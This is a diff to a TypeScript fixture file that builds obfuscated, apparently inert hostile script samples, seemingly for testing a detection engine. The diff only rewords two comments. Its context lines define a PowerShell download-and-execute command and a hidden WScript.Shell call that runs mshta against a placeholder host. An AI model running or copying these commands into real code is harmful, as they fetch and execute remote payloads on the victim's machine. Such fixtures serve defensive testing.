@@ -1,4 +1,4 @@
-/** Scripts and pages whose words only come out when they run, one way of hiding each. All inert. */
+/** Scripts and pages whose words appear only when they run. Each hides them in another way. All are inert. */
 import { zipOf } from '../../engines/zip-fixture.ts';
 import { base64, codes, HOST, type HostileFile, PROGRAM } from './sample.ts';
 
@@ -9,7 +9,7 @@ const hex = (text: string, key = 0) =>
 const backwards = (text: string) => [...text].reverse().join('');
 const COMMAND = `powershell -c iex(irm ${HOST}/a)`;
 const RUN = `CreateObject("WScript.Shell").Run "mshta ${HOST}/a",0`;
-/** Put together by turns in front and behind, this is the text again. */
+/** The letters of a text, so that adding them by turns in front and behind gives the text. */
 function woven(text: string): string {
   const letters: string[] = [];
   let [first, last] = [0, text.length - 1];
